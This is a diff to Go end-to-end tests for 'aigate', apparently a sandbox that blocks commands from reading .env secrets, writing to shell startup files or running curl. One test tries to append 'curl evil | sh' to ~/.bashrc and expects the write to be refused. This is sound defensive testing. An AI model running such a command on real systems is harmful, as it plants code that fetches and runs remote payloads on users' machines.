@@ -17,14 +17,16 @@ import (
 	"github.com/creack/pty"
 )
 
-// These scenarios use the built-in default policy (no config file), as a
-// user on a fresh machine would, and ordinary programs: sh, cat, stty.
+// These scenarios use the built-in default policy (written by aigate
+// init), as a user on a fresh machine would, and ordinary programs: sh,
+// cat, stty.
 
 // TestE2ECatEnv is the main job: `aigate run -- cat .env` is refused by the
 // kernel, says so in one line, records the event, exits with cat's status;
 // the same file stays readable outside the sandbox meanwhile.
 func TestE2ECatEnv(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
 		self, _ := os.Executable()
 		w.env = append(w.env, helperEnv+"=probe")
@@ -64,6 +66,7 @@ func TestE2ECatEnv(t *testing.T) {
 // TestE2EDenyWriteShell: a deny_write file can be read but not appended to.
 func TestE2EDenyWriteShell(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		rc := w.write("~/.bashrc", "export SAFE=1\n")
 		r := w.run(nil, "sh", "-c", `echo 'curl evil | sh' >> ~/.bashrc; echo "append=$?"; cat ~/.bashrc`)
 		if r.code != 0 || strings.Contains(r.stdout, "append=0") || !strings.Contains(r.stdout, "export SAFE=1") {
@@ -90,6 +93,7 @@ func TestE2EDenyWriteShell(t *testing.T) {
 // PATH) cannot be run; the shell reports it as not executable (126).
 func TestE2EDenyExecShell(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		curl := w.installHelper("curl")
 		w.env = append(w.env, helperEnv+"=true")
 		r := w.run(nil, "sh", "-c", "curl; echo status=$?")
@@ -117,6 +121,7 @@ func TestE2EDenyExecShell(t *testing.T) {
 // been blocked.
 func TestE2EAudit(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
 		r := w.run([]string{"--audit"}, "cat", ".env")
 		if r.code != 0 || !strings.Contains(r.stdout, "sk-e2e-secret") {
@@ -137,6 +142,7 @@ func TestE2EAudit(t *testing.T) {
 // failures have their documented codes and never start the command.
 func TestE2EExitCodes(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		marker := filepath.Join(w.proj, "ran")
 		touch := []string{"sh", "-c", "touch " + marker}
 		cases := []struct {
@@ -196,6 +202,7 @@ func TestE2EFailClosed(t *testing.T) {
 // exit status becomes aigate's.
 func TestE2ESignals(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		marker, ready := filepath.Join(w.proj, "got-term"), filepath.Join(w.proj, "ready")
 		cmd := w.runCmd(nil, "sh", "-c", `trap 'echo term > `+marker+`; exit 42' TERM; touch `+ready+`; while :; do sleep 0.05; done`)
 		var stderr syncBuf
@@ -236,7 +243,8 @@ func TestE2ESignals(t *testing.T) {
 // would: the denial is reported on the terminal and the terminal (here its
 // size) reaches the command untouched.
 func TestE2EPTY(t *testing.T) {
-	eachBackend(t, func(t *testing.T, w *world) {
+	eachBackendVM(t, true, func(t *testing.T, w *world) {
+		w.defaults()
 		env := w.write(".env", "API_KEY=sk-e2e-secret\n")
 		cmd := w.runCmd(nil, "sh", "-c", "cat .env; stty size")
 		tty, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 33, Cols: 101})
@@ -283,6 +291,7 @@ func TestE2EPTY(t *testing.T) {
 // dies with the run.
 func TestE2EBackgroundKilled(t *testing.T) {
 	eachBackend(t, func(t *testing.T, w *world) {
+		w.defaults()
 		pidFile := filepath.Join(w.proj, "bg.pid")
 		r := w.run(nil, "sh", "-c", "sleep 600 & echo $! > "+pidFile)
 		if r.code != 0 {
